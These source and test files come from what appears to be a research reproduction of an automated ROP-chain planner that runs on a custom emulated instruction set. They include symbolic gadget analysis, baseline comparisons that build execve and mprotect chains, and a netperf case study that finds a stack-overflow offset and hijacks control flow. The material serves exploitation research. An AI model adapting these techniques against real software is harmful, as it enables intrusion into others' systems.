    target &= MASK64
    node = expr
    while True:
        if isinstance(node, BVSym):
            return node.name, target
        if isinstance(node, BVConst):
            return None  # no variable at all
        if isinstance(node, BVUn):
            if node.op is BVUnOp.NOT:
                target = ~target & MASK64
            else:  # NEG
                target = -target & MASK64
            node = node.arg
            continue
        if isinstance(node, BVBin):
            op = node.op
            # Put the constant on one side.
            if isinstance(node.rhs, BVConst):
                const, varside, const_on_right = node.rhs.value, node.lhs, True
            elif isinstance(node.lhs, BVConst):
                const, varside, const_on_right = node.lhs.value, node.rhs, False
            else:
                return None
            if op is BVBinOp.ADD:
                target = (target - const) & MASK64
            elif op is BVBinOp.SUB:
                if const_on_right:
                    target = (target + const) & MASK64
                else:  # const - e == target
                    target = (const - target) & MASK64
            elif op is BVBinOp.XOR:
                target ^= const
            elif op is BVBinOp.MUL:
                if const % 2 == 0:
                    return None  # not invertible mod 2^64
                target = (target * _modinv_odd(const)) & MASK64
            elif op is BVBinOp.SHL and const_on_right:
                shift = const & 0x3F
                if target & ((1 << shift) - 1):
                    return None  # low bits nonzero: unreachable value
                target >>= shift
            else:
                return None
            node = varside
            continue
        return None
