"""Symbolic machine state for gadget analysis.

The state models exactly what the paper's gadget records need:

* registers as 64-bit expressions over the *initial* register symbols
  (``rax0``, ``rbx0``, ...);
* the stack as an attacker-controlled array: reads at concrete offsets
  from the initial ``rsp`` become ``stk<offset>`` symbols (the payload
  words), with read-over-write for values the gadget itself stored;
* all other memory reads become fresh unconstrained ``mem<n>`` symbols
  ("wild reads" — the paper leaves these unconstrained so that they are
  free to take on whatever value the rest of the plan needs);
* memory writes are recorded as effects, so the planner can use
  write-gadgets to plant strings like ``"/bin/sh"``;
* flags as boolean expressions, remembering the producing comparison so
  that ``cmp rdx, rbx ; jne`` yields the readable precondition
  ``rdx0 == rbx0`` from Fig. 4 rather than a flag-bit formula.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..isa.registers import ALL_REGS, Reg
from .expr import (
    BV,
    BVConst,
    BVSym,
    Bool,
    CmpOp,
    FALSE,
    TRUE,
    bool_and,
    bool_not,
    bool_or,
    bv_and,
    bv_const,
    bv_eq,
    bv_or,
    bv_shl,
    bv_shr,
    bv_sym,
    cmp,
)

#: Prefix for symbols the attacker controls via the stack payload.
STACK_SYM_PREFIX = "stk"
#: Prefix for initial-register symbols.
REG_SYM_SUFFIX = "0"
#: Prefix for unconstrained wild-memory symbols.
WILD_SYM_PREFIX = "mem"
#: Prefix for unknown initial flags, modelled as BV symbols != 0.
FLAG_SYM_PREFIX = "flag_"


def reg_sym(reg: Reg) -> BVSym:
    """The symbol naming register ``reg``'s value at gadget entry."""
    return bv_sym(f"{reg}{REG_SYM_SUFFIX}")


def stack_sym(offset: int) -> BVSym:
    """The symbol naming the payload word at ``rsp0 + offset``."""
    suffix = f"m{-offset}" if offset < 0 else str(offset)
    return bv_sym(f"{STACK_SYM_PREFIX}{suffix}")


def stack_sym_offset(name: str) -> Optional[int]:
    """Inverse of :func:`stack_sym`: the byte offset, or None."""
    if not name.startswith(STACK_SYM_PREFIX):
        return None
    body = name[len(STACK_SYM_PREFIX) :]
    try:
        if body.startswith("m"):
            return -int(body[1:])
        return int(body)
    except ValueError:
        return None


def is_controlled_symbol(name: str) -> bool:
    """Can the attacker choose this symbol's value directly?

    Payload stack slots at non-negative offsets are controlled (they
    are the overflow bytes).  Initial registers are not, in general —
    the planner must *make* them hold values via gadgets.
    """
    offset = stack_sym_offset(name)
    return offset is not None and offset >= 0


class FlagsKind(enum.Enum):
    """What operation produced the current flags."""

    INITIAL = "initial"  # unknown at gadget entry
    SUB = "sub"  # sub/cmp: conditions phrase directly over (a, b)
    ADD = "add"
    LOGIC = "logic"  # and/or/xor/test/shift/neg: CF=OF=0


def _sign(e: BV) -> Bool:
    return cmp(CmpOp.SLT, e, bv_const(0))


def _bool_xor(a: Bool, b: Bool) -> Bool:
    return bool_or(bool_and(a, bool_not(b)), bool_and(bool_not(a), b))


@dataclass
class FlagsState:
    """Symbolic flags plus their provenance."""

    kind: FlagsKind
    zf: Bool
    sf: Bool
    cf: Bool
    of: Bool
    # Operands of the producing sub/cmp, for readable conditions.
    a: Optional[BV] = None
    b: Optional[BV] = None
    # True when ``cf`` was overwritten after construction (INC/DEC
    # preserve CF on x86): the SUB/ADD borrow no longer describes it,
    # so CF-dependent conditions must use ``cf`` itself, not a/b.
    cf_patched: bool = False

    @classmethod
    def initial(cls) -> "FlagsState":
        def flag(name: str) -> Bool:
            return cmp(CmpOp.NE, bv_sym(f"{FLAG_SYM_PREFIX}{name}"), bv_const(0))

        return cls(
            kind=FlagsKind.INITIAL,
            zf=flag("zf"),
            sf=flag("sf"),
            cf=flag("cf"),
            of=flag("of"),
        )

    @classmethod
    def from_sub(cls, a: BV, b: BV, result: BV) -> "FlagsState":
        return cls(
            kind=FlagsKind.SUB,
            zf=bv_eq(a, b),
            sf=_sign(result),
            cf=cmp(CmpOp.ULT, a, b),
            of=bool_and(_bool_xor(_sign(a), _sign(b)), _bool_xor(_sign(result), _sign(a))),
            a=a,
            b=b,
        )

    @classmethod
    def from_add(cls, a: BV, b: BV, result: BV) -> "FlagsState":
        return cls(
            kind=FlagsKind.ADD,
            zf=bv_eq(result, bv_const(0)),
            sf=_sign(result),
            cf=cmp(CmpOp.ULT, result, a),
            of=bool_and(
                bool_not(_bool_xor(_sign(a), _sign(b))), _bool_xor(_sign(result), _sign(a))
            ),
            a=a,
            b=b,
        )

    @classmethod
    def from_logic(cls, result: BV) -> "FlagsState":
        return cls(
            kind=FlagsKind.LOGIC,
            zf=bv_eq(result, bv_const(0)),
            sf=_sign(result),
            cf=FALSE,
            of=FALSE,
        )

    def condition(self, mnemonic: str) -> Bool:
        """The Bool under which the given Jcc is taken."""
        if self.kind is FlagsKind.SUB and self.a is not None:
            a, b = self.a, self.b
            direct = {
                "je": cmp(CmpOp.EQ, a, b),
                "jne": cmp(CmpOp.NE, a, b),
                "jl": cmp(CmpOp.SLT, a, b),
                "jle": cmp(CmpOp.SLE, a, b),
                "jg": cmp(CmpOp.SLT, b, a),
                "jge": cmp(CmpOp.SLE, b, a),
                "jb": cmp(CmpOp.ULT, a, b),
                "jbe": cmp(CmpOp.ULE, a, b),
                "ja": cmp(CmpOp.ULT, b, a),
                "jae": cmp(CmpOp.ULE, b, a),
            }
            if self.cf_patched and mnemonic in ("jb", "jbe", "ja", "jae"):
                pass  # borrow of a-b is stale; fall through to patched cf
            elif mnemonic in direct:
                return direct[mnemonic]
        generic = {
            "je": self.zf,
            "jne": bool_not(self.zf),
            "jl": _bool_xor(self.sf, self.of),
            "jle": bool_or(self.zf, _bool_xor(self.sf, self.of)),
            "jg": bool_and(bool_not(self.zf), bool_not(_bool_xor(self.sf, self.of))),
            "jge": bool_not(_bool_xor(self.sf, self.of)),
            "jb": self.cf,
            "jbe": bool_or(self.cf, self.zf),
            "ja": bool_and(bool_not(self.cf), bool_not(self.zf)),
            "jae": bool_not(self.cf),
            "js": self.sf,
            "jns": bool_not(self.sf),
        }
        return generic[mnemonic]


@dataclass(frozen=True)
class MemRead:
    """A wild (non-stack) memory read effect."""

    addr: BV
    value_sym: BVSym
    width: int


@dataclass(frozen=True)
class MemWrite:
    """A memory write effect (stack or wild)."""

    addr: BV
    value: BV
    width: int
    stack_offset: Optional[int] = None  # set when addr is rsp0 + const


def split_base_offset(addr: BV) -> Tuple[BV, int]:
    """Decompose ``addr`` as (base_expr, constant offset)."""
    from .expr import BVBin, BVBinOp

    if isinstance(addr, BVBin) and addr.op is BVBinOp.ADD and isinstance(addr.rhs, BVConst):
        value = addr.rhs.value
        signed = value - (1 << 64) if value >> 63 else value
        return addr.lhs, signed
    return addr, 0


class SymState:
    """One symbolic execution path's complete state."""

    def __init__(self) -> None:
        self.regs: Dict[Reg, BV] = {r: reg_sym(r) for r in ALL_REGS}
        self.flags: FlagsState = FlagsState.initial()
        self.constraints: List[Bool] = []
        self._stack_writes: Dict[int, BV] = {}
        self._stack_reads: Dict[int, BVSym] = {}
        self.mem_reads: List[MemRead] = []
        self.mem_writes: List[MemWrite] = []
        self._wild_counter = 0
        self.stack_smashed = False  # rsp escaped the rsp0 + const form
        self.max_stack_offset_read = -1  # payload length tracking

    def clone(self) -> "SymState":
        new = SymState.__new__(SymState)
        new.regs = dict(self.regs)
        new.flags = self.flags
        new.constraints = list(self.constraints)
        new._stack_writes = dict(self._stack_writes)
        new._stack_reads = dict(self._stack_reads)
        new.mem_reads = list(self.mem_reads)
        new.mem_writes = list(self.mem_writes)
        new._wild_counter = self._wild_counter
        new.stack_smashed = self.stack_smashed
        new.max_stack_offset_read = self.max_stack_offset_read
        return new

    # -- registers ------------------------------------------------------------

    def get(self, reg: Reg) -> BV:
        return self.regs[reg]

    def set(self, reg: Reg, value: BV) -> None:
        self.regs[reg] = value

    def add_constraint(self, c: Bool) -> None:
        if c != TRUE:
            self.constraints.append(c)

    # -- stack tracking -----------------------------------------------------

    def rsp_offset(self) -> Optional[int]:
        """Current rsp as a constant offset from rsp0, if it is one."""
        base, offset = split_base_offset(self.regs[Reg.RSP])
        if base == reg_sym(Reg.RSP):
            return offset
        return None

    def stack_offset_of(self, addr: BV) -> Optional[int]:
        base, offset = split_base_offset(addr)
        if base == reg_sym(Reg.RSP):
            return offset
        return None

    def _fresh_wild(self, width: int) -> BVSym:
        sym = bv_sym(f"{WILD_SYM_PREFIX}{self._wild_counter}")
        self._wild_counter += 1
        return sym

    # -- memory ----------------------------------------------------------------

    def load(self, addr: BV, width: int = 8) -> BV:
        """Read ``width`` bytes (1 or 8), zero-extended to 64 bits."""
        offset = self.stack_offset_of(addr)
        if offset is not None and offset % 8 == 0 and width == 8:
            return self._stack_read_slot(offset)
        if offset is not None and width == 1:
            slot = offset - (offset % 8)
            word = self._stack_read_slot(slot)
            return bv_and(bv_shr(word, (offset % 8) * 8), bv_const(0xFF))
        sym = self._fresh_wild(width)
        self.mem_reads.append(MemRead(addr=addr, value_sym=sym, width=width))
        if width == 1:
            return bv_and(sym, bv_const(0xFF))
        return sym

    def _stack_read_slot(self, offset: int) -> BV:
        if offset in self._stack_writes:
            return self._stack_writes[offset]
        sym = self._stack_reads.get(offset)
        if sym is None:
            sym = stack_sym(offset)
            self._stack_reads[offset] = sym
        if offset >= 0:
            self.max_stack_offset_read = max(self.max_stack_offset_read, offset)
        return sym

    def store(self, addr: BV, value: BV, width: int = 8) -> None:
        offset = self.stack_offset_of(addr)
        if offset is not None and offset % 8 == 0 and width == 8:
            self._stack_writes[offset] = value
            self.mem_writes.append(
                MemWrite(addr=addr, value=value, width=width, stack_offset=offset)
            )
            return
        if offset is not None and width == 1:
            slot = offset - (offset % 8)
            shift = (offset % 8) * 8
            old = self._stack_read_slot(slot)
            mask = bv_const(~(0xFF << shift))
            merged = bv_or(bv_and(old, mask), bv_shl(bv_and(value, bv_const(0xFF)), shift))
            self._stack_writes[slot] = merged
            self.mem_writes.append(
                MemWrite(addr=addr, value=value, width=width, stack_offset=offset)
            )
            return
        self.mem_writes.append(MemWrite(addr=addr, value=value, width=width, stack_offset=None))

    # -- stack slot views for the record builder ------------------------------

    def stack_reads(self) -> Dict[int, BVSym]:
        return dict(self._stack_reads)

    def stack_writes(self) -> Dict[int, BV]:
        return dict(self._stack_writes)
