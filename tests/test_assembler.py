"""Tests for the two-pass assembler and the disassembler."""

import pytest

from repro.isa import (
    AssemblyError,
    Op,
    Reg,
    assemble,
    assemble_unit,
    decode_all,
    disassemble,
    format_listing,
)


def ops(code, base=0):
    return [i.op for i in decode_all(code, base)]


def test_simple_sequence():
    code = assemble(
        """
        push rbp
        mov rbp, rsp
        mov rax, 59
        pop rbp
        ret
        """
    )
    assert ops(code) == [Op.PUSH_R, Op.MOV_RR, Op.MOV_RI, Op.POP1, Op.RET]


def test_labels_forward_and_backward():
    unit = assemble_unit(
        """
        start:
            jmp fwd
        back:
            ret
        fwd:
            jmp back
        """
    )
    insns = unit.instructions
    assert insns[0].target == unit.labels["fwd"]
    assert insns[2].target == unit.labels["back"]


def test_label_as_immediate():
    unit = assemble_unit(
        """
            mov rax, data
            ret
        data:
            .quad 42
        """
    )
    assert unit.instructions[0].imm == unit.labels["data"]


def test_memory_operands():
    unit = assemble_unit(
        """
        mov rax, [rbp-8]
        mov [rsp+16], rbx
        lea rdi, [rsp+0x20]
        jmp [rax+8]
        """
    )
    load, store, lea, jmpm = unit.instructions
    assert load.op == Op.LOAD and load.base == Reg.RBP and load.disp == -8
    assert store.op == Op.STORE and store.base == Reg.RSP and store.disp == 16
    assert lea.op == Op.LEA and lea.disp == 0x20
    assert jmpm.op == Op.JMP_M and jmpm.base == Reg.RAX and jmpm.disp == 8


def test_mem_operand_without_disp():
    unit = assemble_unit("mov rax, [rbx]")
    assert unit.instructions[0].disp == 0


def test_shape_dispatch_jmp_call_push():
    unit = assemble_unit(
        """
        t:
        jmp t
        jmp rax
        call t
        call rbx
        push rcx
        push 7
        """
    )
    got = [i.op for i in unit.instructions]
    assert got == [Op.JMP_REL, Op.JMP_R, Op.CALL_REL, Op.CALL_R, Op.PUSH_R, Op.PUSH_I]


def test_arith_imm_vs_reg():
    unit = assemble_unit(
        """
        add rax, rbx
        add rax, 5
        cmp rdx, 0
        test rsi, rsi
        """
    )
    got = [i.op for i in unit.instructions]
    assert got == [Op.ADD_RR, Op.ADD_RI, Op.CMP_RI, Op.TEST_RR]


def test_conditional_jumps():
    source = "t:\n" + "\n".join(
        f"{m} t" for m in ["je", "jne", "jl", "jle", "jg", "jge", "jb", "jbe", "ja", "jae", "js", "jns"]
    )
    unit = assemble_unit(source)
    assert len(unit.instructions) == 12


def test_directives():
    unit = assemble_unit(
        """
        .quad 0x1122334455667788
        .byte 1, 2, 3
        .zero 4
        .asciz "hi"
        """
    )
    assert unit.code == (
        bytes.fromhex("8877665544332211") + b"\x01\x02\x03" + b"\x00" * 4 + b"hi\x00"
    )


def test_comments_and_blank_lines():
    code = assemble(
        """
        ; full line comment
        nop  ; trailing comment
        # hash comment
        ret
        """
    )
    assert ops(code) == [Op.NOP, Op.RET]


def test_undefined_label_raises():
    with pytest.raises(AssemblyError, match="undefined label"):
        assemble("jmp nowhere")


def test_duplicate_label_raises():
    with pytest.raises(AssemblyError, match="duplicate label"):
        assemble("a:\na:\nret")


def test_unknown_mnemonic_raises():
    with pytest.raises(AssemblyError, match="unknown mnemonic"):
        assemble("frobnicate rax")


def test_base_addr_affects_rel_encoding():
    unit = assemble_unit("start: jmp start", base_addr=0x400000)
    assert unit.instructions[0].target == 0x400000


def test_disassemble_skips_data():
    blob = b"\x0f\x0e" + assemble("ret")
    insns = disassemble(blob)
    assert [i.op for i in insns] == [Op.RET]


def test_format_listing_roundtrip_text():
    listing = format_listing(assemble("mov rax, 59\nsyscall\nret"), base_addr=0x400000)
    assert "mov rax, 0x3b" in listing
    assert "syscall" in listing
    assert "ret" in listing
