"""Tests for the three baseline tools, including the comparative
behaviours the paper's evaluation depends on."""


from repro.baselines import AngropLike, ROPGadgetLike, SGCLike
from repro.binfmt import make_image
from repro.isa import assemble_unit
from repro.planner import GadgetPlanner, execve_goal, mmap_goal, mprotect_goal


def image_for(source, data=b""):
    unit = assemble_unit(source, base_addr=0x400000)
    return make_image(unit.code, data=data, symbols=dict(unit.labels))


CLEAN_GADGETS = """
    hlt
g1:
    pop rax
    ret
g2:
    pop rdi
    ret
g3:
    pop rsi
    ret
g4:
    pop rdx
    ret
g5:
    mov [rdi+0], rsi
    ret
g6:
    syscall
    ret
"""

# The same functionality with "substituted" pop encodings angrop's
# semantics still match but ROPGadget's syntax patterns do not:
# `pop rdi` is replaced by `pop rcx; mov rdi, rcx` etc.
SUBSTITUTED_GADGETS = """
    hlt
g1:
    pop rcx
    mov rax, rcx
    ret
g2:
    pop rcx
    mov rdi, rcx
    ret
g3:
    pop rcx
    mov rsi, rcx
    ret
g4:
    pop rcx
    mov rdx, rcx
    ret
g6:
    syscall
    ret
"""


def test_ropgadget_finds_chain_on_clean_image():
    report = ROPGadgetLike().run(image_for(CLEAN_GADGETS), goals=[mprotect_goal(0x600000)])
    assert report.per_goal["mprotect"] == 1
    assert report.payloads[0].validated


def test_ropgadget_counts_gadgets():
    report = ROPGadgetLike().run(image_for(CLEAN_GADGETS), goals=[mmap_goal()])
    assert report.gadgets_total > 0


def test_ropgadget_execve_with_write_template():
    report = ROPGadgetLike().run(image_for(CLEAN_GADGETS), goals=[execve_goal()])
    assert report.per_goal["execve"] == 1
    assert report.payloads[0].event.is_shell_spawn()


def test_ropgadget_fails_without_exact_pattern():
    """The paper: "Once a gadget in the pattern is missing, the whole
    search will fail" — semantically equivalent variants don't help."""
    report = ROPGadgetLike().run(
        image_for(SUBSTITUTED_GADGETS), goals=[mprotect_goal(0x600000)]
    )
    assert report.per_goal["mprotect"] == 0


def test_angrop_matches_substituted_semantics():
    """Angrop is semantic: pop rcx; mov rdi, rcx; ret still sets rdi."""
    report = AngropLike().run(image_for(SUBSTITUTED_GADGETS), goals=[mprotect_goal(0x600000)])
    assert report.per_goal["mprotect"] == 1
    assert report.payloads[0].validated


def test_angrop_ignores_conditional_gadgets():
    """rdx only settable through a conditional gadget → angrop fails
    where Gadget-Planner succeeds."""
    source = """
        hlt
    g1:
        pop rax
        ret
    g2:
        pop rdi
        ret
    g3:
        pop rsi
        ret
    g_pop_rcx:
        pop rcx
        ret
    g_cond:
        pop rdx
        cmp rcx, 0
        jne bad
        ret
    bad:
        hlt
    g6:
        syscall
        ret
    """
    image = image_for(source)
    angrop_report = AngropLike().run(image, goals=[mprotect_goal(0x600000)])
    assert angrop_report.per_goal["mprotect"] == 0
    gp_report = GadgetPlanner(image).run(goals=[mprotect_goal(0x600000)])
    assert gp_report.per_goal["mprotect"] >= 1


def test_sgc_solves_arithmetic_setters():
    """rax reachable only via pop rbx' + arithmetic — SGC's solver can
    use `pop rax; add rax, 1; ret`-style value equations."""
    source = """
        hlt
    g1:
        pop rax
        add rax, 1
        ret
    g2:
        pop rdi
        ret
    g3:
        pop rsi
        ret
    g4:
        pop rdx
        ret
    g6:
        syscall
        ret
    """
    report = SGCLike().run(image_for(source), goals=[mprotect_goal(0x600000)])
    assert report.per_goal["mprotect"] >= 1
    assert report.payloads[0].validated


def test_sgc_cannot_regress_through_register_moves():
    """rdx only via rax passthrough (mov rdx, rax) — SGC's selection has
    no regression, Gadget-Planner's does."""
    source = """
        hlt
    g1:
        pop rax
        ret
    g2:
        mov rdx, rax
        ret
    g3:
        pop rdi
        ret
    g4:
        pop rsi
        ret
    g6:
        syscall
        ret
    """
    image = image_for(source)
    sgc_report = SGCLike().run(image, goals=[mprotect_goal(0x600000)])
    assert sgc_report.per_goal["mprotect"] == 0
    gp_report = GadgetPlanner(image).run(goals=[mprotect_goal(0x600000)])
    assert gp_report.per_goal["mprotect"] >= 1


def test_sgc_multiple_chains():
    source = CLEAN_GADGETS + "\ng7:\n    pop rdi\n    nop\n    ret\n"
    report = SGCLike().run(image_for(source), goals=[mprotect_goal(0x600000)])
    assert report.per_goal["mprotect"] >= 2


def test_all_baselines_zero_without_syscall():
    image = image_for("pop rax\nret")
    for tool in (ROPGadgetLike(), AngropLike(), SGCLike()):
        report = tool.run(image, goals=[mmap_goal()])
        assert report.total_payloads == 0, tool.name


def test_baseline_reports_have_timings():
    report = AngropLike().run(image_for(CLEAN_GADGETS), goals=[mmap_goal()])
    assert report.finding_time > 0
    assert report.chaining_time >= 0
