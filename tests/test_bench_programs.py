"""Tests for the benchmark suites: every program compiles, runs, and
keeps its behaviour under a representative obfuscation config."""

import pytest

from repro.bench import BENCHMARK_SUITE, SPEC_SUITE, build, verify_semantics
from repro.bench.netperf import (
    build_exploit_argument,
    find_overflow_offset,
    netperf_image,
    run_netperf_with_arg,
)
from repro.emulator import run_image
from repro.obfuscation import CONFIGS

EXPECTED_OUTPUTS = {
    "bubble_sort": b"44063238\n",
    "binary_search": b"496\n208\n",
    "matrix_multiply": b"644001458\n",
    "crc32": b"4165033073\n",
    "rc4_like": b"160739251\n",
    "string_ops": b"reliefpfeiler\n101\n",
    "fibonacci_dp": b"189711163\n",
    "quicksort": b"1\n286884401\n",
    "priority_queue": b"1\n809086239\n",
    "state_machine": b"5\n4\n13\n",
    "hash_table": b"40\n39\n",
    "bigint_add": b"216361284\n",
}


@pytest.mark.parametrize("name", sorted(BENCHMARK_SUITE))
def test_benchmark_program_output(name):
    status, out = run_image(build(name, "none").image, step_limit=20_000_000)
    assert status == 0
    assert out == EXPECTED_OUTPUTS[name]


@pytest.mark.parametrize("name", ["crc32", "state_machine", "fibonacci_dp"])
def test_benchmark_obfuscated_matches(name):
    assert verify_semantics(name, "llvm_obf")


def test_one_program_under_tigress():
    assert verify_semantics("state_machine", "tigress")


@pytest.mark.parametrize("name", sorted(SPEC_SUITE))
def test_spec_program_runs(name):
    if name == "445.gobmk":
        pytest.skip("gobmk is the long-running one; covered by benchmarks")
    status, out = run_image(build(name, "none").image, step_limit=40_000_000)
    assert status == 0
    assert out  # self-check prints something


def test_spec_obfuscated_matches():
    assert verify_semantics("429.mcf", "llvm_obf")


# ---------------------------------------------------------------------------
# netperf case study machinery
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def netperf_plain():
    return netperf_image()


def test_netperf_runs_normally(netperf_plain):
    status, out = run_image(netperf_plain.image, step_limit=40_000_000)
    assert status == 0
    lines = out.split()
    assert lines[0] == b"0" and lines[1] == b"0"


def test_netperf_parses_benign_argument(netperf_plain):
    emu, event = run_netperf_with_arg(netperf_plain, b"120,340")
    assert event is None
    assert emu.syscalls.stdout.split()[0] == b"120"
    assert emu.syscalls.stdout.split()[1] == b"340"


def test_netperf_overflow_offset_found(netperf_plain):
    offset = find_overflow_offset(netperf_plain)
    assert offset is not None
    assert offset % 8 == 0
    assert offset >= 16  # at least the two buffers


def test_netperf_offset_found_on_obfuscated_build():
    linked = netperf_image(CONFIGS["llvm_obf"], seed=3)
    offset = find_overflow_offset(linked)
    assert offset is not None


def test_build_exploit_argument_layout(netperf_plain):
    offset = find_overflow_offset(netperf_plain)
    payload = b"\xde\xad\xbe\xef\x00\x00\x40\x00" * 2
    arg = build_exploit_argument(netperf_plain, payload, offset=offset)
    assert arg is not None
    assert len(arg) == offset + len(payload)
    assert arg.endswith(payload)
    # Saved-rbp word points into mapped scratch, not 'AAAA...'.
    saved_rbp = int.from_bytes(arg[offset - 8 : offset], "little")
    assert saved_rbp != 0x4141414141414141


def test_control_flow_hijack_end_to_end(netperf_plain):
    """Deliver a trivial 'payload' that jumps straight to the image's
    exit stub: proves arbitrary rip control through break_args."""
    image = netperf_plain.image
    target = image.symbol("fn_exit")  # exit(rdi): any status
    offset = find_overflow_offset(netperf_plain)
    arg = build_exploit_argument(netperf_plain, target.to_bytes(8, "little"), offset=offset)
    emu, event = run_netperf_with_arg(netperf_plain, arg)
    assert event is None
    # The process exited *without* printing: main never resumed.
    assert b"\n" not in bytes(emu.syscalls.stdout) or emu.steps < 100_000
