"""Tests for the NFLF executable container."""

import pytest
from hypothesis import given, strategies as st

from repro.binfmt import (
    BinaryFormatError,
    BinaryImage,
    DATA_BASE,
    SCRATCH_SIZE,
    TEXT_BASE,
    make_image,
)


def sample_image():
    return make_image(
        text=b"\x00\x01\x02\x03",
        data=b"hello",
        entry=TEXT_BASE + 2,
        symbols={"fn_main": TEXT_BASE, "g": DATA_BASE},
    )


def test_make_image_sections():
    image = sample_image()
    assert image.text.addr == TEXT_BASE
    assert image.text.executable and not image.text.writable
    assert image.data.addr == DATA_BASE
    assert image.data.writable and not image.data.executable
    assert image.data.data.startswith(b"hello")
    assert len(image.data.data) == 5 + SCRATCH_SIZE


def test_scratch_symbol_set():
    image = sample_image()
    assert image.symbol("__scratch") == DATA_BASE + 5


def test_section_lookup_and_read():
    image = sample_image()
    assert image.section_at(TEXT_BASE + 1) is image.text
    assert image.section_at(0x1234) is None
    assert image.read(DATA_BASE, 5) == b"hello"
    with pytest.raises(BinaryFormatError):
        image.read(DATA_BASE - 1, 4)


def test_symbol_lookup_errors():
    image = sample_image()
    with pytest.raises(KeyError):
        image.symbol("nope")
    with pytest.raises(KeyError):
        image.section("nope")


def test_serialize_roundtrip():
    image = sample_image()
    blob = image.to_bytes()
    back = BinaryImage.from_bytes(blob)
    assert back.entry == image.entry
    assert back.symbols == image.symbols
    assert len(back.sections) == len(image.sections)
    for a, b in zip(back.sections, image.sections):
        assert (a.name, a.addr, a.data, a.writable, a.executable) == (
            b.name,
            b.addr,
            b.data,
            b.writable,
            b.executable,
        )


def test_bad_magic_rejected():
    with pytest.raises(BinaryFormatError):
        BinaryImage.from_bytes(b"ELF\x00" + b"\x00" * 64)


def test_truncated_rejected():
    blob = sample_image().to_bytes()
    with pytest.raises(BinaryFormatError):
        BinaryImage.from_bytes(blob[: len(blob) // 2])


@given(
    text=st.binary(min_size=1, max_size=256),
    data=st.binary(min_size=0, max_size=64),
    syms=st.dictionaries(
        st.text(alphabet="abcdefgh_", min_size=1, max_size=12),
        st.integers(min_value=0, max_value=(1 << 48)),
        max_size=8,
    ),
)
def test_property_roundtrip(text, data, syms):
    image = make_image(text, data=data, symbols=syms)
    back = BinaryImage.from_bytes(image.to_bytes())
    assert back.symbols == image.symbols
    assert back.text.data == text
