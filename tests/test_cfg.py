"""Tests for CFG recovery on raw binaries."""

from repro.analysis import recover_cfg
from repro.binfmt import make_image
from repro.isa import Op, assemble_unit


def cfg_for(source):
    unit = assemble_unit(source, base_addr=0x400000)
    image = make_image(unit.code, symbols=dict(unit.labels))
    return recover_cfg(image), unit.labels


def test_single_block():
    cfg, labels = cfg_for("entry:\nmov rax, 1\nmov rbx, 2\nret")
    assert cfg.num_blocks == 1
    block = cfg.blocks[0x400000]
    assert len(block.instructions) == 3
    assert block.successors == ()


def test_branch_splits_blocks():
    cfg, labels = cfg_for(
        """
        entry:
            cmp rax, 0
            je done
            mov rbx, 1
        done:
            ret
        """
    )
    entry = cfg.blocks[0x400000]
    assert entry.terminator.op == Op.JE
    assert set(entry.successors) == {labels["done"], entry.end}
    assert labels["done"] in cfg.blocks


def test_jump_target_becomes_leader():
    cfg, labels = cfg_for(
        """
        entry:
            jmp mid
            nop
        mid:
            mov rax, 1
            ret
        """
    )
    assert labels["mid"] in cfg.blocks
    entry = cfg.blocks[0x400000]
    assert entry.successors == (labels["mid"],)


def test_loop_back_edge():
    cfg, labels = cfg_for(
        """
        entry:
            mov rcx, 10
        loop:
            dec rcx
            cmp rcx, 0
            jne loop
            ret
        """
    )
    loop_block = cfg.blocks[labels["loop"]]
    assert labels["loop"] in loop_block.successors


def test_call_creates_function_entry():
    cfg, labels = cfg_for(
        """
        entry:
            call fn
            ret
        fn:
            mov rax, 7
            ret
        """
    )
    assert labels["fn"] in cfg.blocks
    entry = cfg.blocks[0x400000]
    # call: target is explored and the call falls through.
    assert labels["fn"] in entry.successors or any(
        labels["fn"] in b.successors for b in cfg.blocks.values()
    )


def test_block_split_on_incoming_edge_mid_block():
    """A jump into the middle of a straightline run must split it."""
    cfg, labels = cfg_for(
        """
        entry:
            mov rax, 1
        target:
            mov rbx, 2
            ret
        back:
            jmp target
        """
    )
    assert labels["target"] in cfg.blocks
    first = cfg.blocks[0x400000]
    assert first.end == labels["target"]


def test_conditional_edges_counted():
    cfg, _ = cfg_for(
        """
        a:
            cmp rax, 0
            je b
            cmp rbx, 0
            jne a
        b:
            ret
        """
    )
    assert cfg.conditional_edges() == 2


def test_indirect_jump_has_no_static_successors():
    cfg, _ = cfg_for("entry:\njmp rax")
    assert cfg.blocks[0x400000].successors == ()


def test_entries_include_symbols():
    cfg, labels = cfg_for("fn_a:\nret\nfn_b:\nret")
    assert labels["fn_a"] in cfg.entries
    assert labels["fn_b"] in cfg.entries
    assert labels["fn_b"] in cfg.blocks
