"""Tests for the `nfl` command-line interface."""

import pytest

from repro.cli import main

SOURCE = """
u64 main() {
    print(41 + 1);
    return 5;
}
"""


@pytest.fixture()
def compiled(tmp_path):
    src = tmp_path / "prog.mc"
    src.write_text(SOURCE)
    out = tmp_path / "prog.nflf"
    assert main(["cc", str(src), "-o", str(out)]) == 0
    return out


def test_cc_writes_binary(compiled):
    assert compiled.exists()
    assert compiled.read_bytes().startswith(b"NFLF")


def test_cc_default_output_name(tmp_path, monkeypatch, capsys):
    src = tmp_path / "thing.mc"
    src.write_text(SOURCE)
    monkeypatch.chdir(tmp_path)
    assert main(["cc", str(src)]) == 0
    assert (tmp_path / "thing.nflf").exists()


def test_cc_obfuscated(tmp_path):
    src = tmp_path / "prog.mc"
    src.write_text(SOURCE)
    plain = tmp_path / "plain.nflf"
    obf = tmp_path / "obf.nflf"
    main(["cc", str(src), "-o", str(plain)])
    main(["cc", str(src), "-o", str(obf), "--obfuscate", "llvm_obf"])
    assert obf.stat().st_size > plain.stat().st_size


def test_run_executes(compiled, capsys):
    status = main(["run", str(compiled)])
    captured = capsys.readouterr()
    assert status == 5
    assert "42" in captured.out


def test_disasm_lists_instructions(compiled, capsys):
    assert main(["disasm", str(compiled), "--count", "5"]) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 5
    assert "0x00400000" in out


def test_gadgets_census(compiled, capsys):
    assert main(["gadgets", str(compiled), "--types", "--list", "3"]) == 0
    out = capsys.readouterr().out
    assert "syntactic gadgets" in out
    assert "RET" in out


def test_census_subcommand(compiled, capsys):
    assert main(["census", str(compiled), "--static"]) == 0
    out = capsys.readouterr().out
    assert "syntactic gadgets" in out
    assert "semantically usable" in out
    assert "functional diversity" in out


def test_census_without_static_flag(compiled, capsys):
    assert main(["census", str(compiled)]) == 0
    out = capsys.readouterr().out
